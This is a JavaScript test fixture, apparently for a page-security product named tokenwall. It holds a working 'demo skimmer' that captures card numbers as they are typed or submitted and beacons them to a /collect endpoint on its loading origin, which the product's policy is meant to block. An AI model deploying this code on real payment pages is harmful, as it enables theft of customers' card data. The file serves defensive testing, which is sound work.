// Demo skimmer (test mode only): what an attacker injects into a payment page. It sends the
// card number, as it is typed and when the form is submitted, to the collector of the origin
// it was loaded from. tokenwall's policy must keep it from running, or its beacons from
// leaving the page.
(function (script) {
  "use strict";
  var collect = new URL("/collect", script && script.src ? script.src : location.href).href;
  function beacon() {
    var number = document.getElementById("card_number");
    if (!number || !number.value) {
      return;
    }
    var url = collect + "?c=" + encodeURIComponent(number.value);
    fetch(url, { mode: "no-cors", keepalive: true }).catch(function () {});
    new Image().src = url;
  }
  document.addEventListener("input", beacon, true);
  document.addEventListener("submit", beacon, true);
})(document.currentScript);
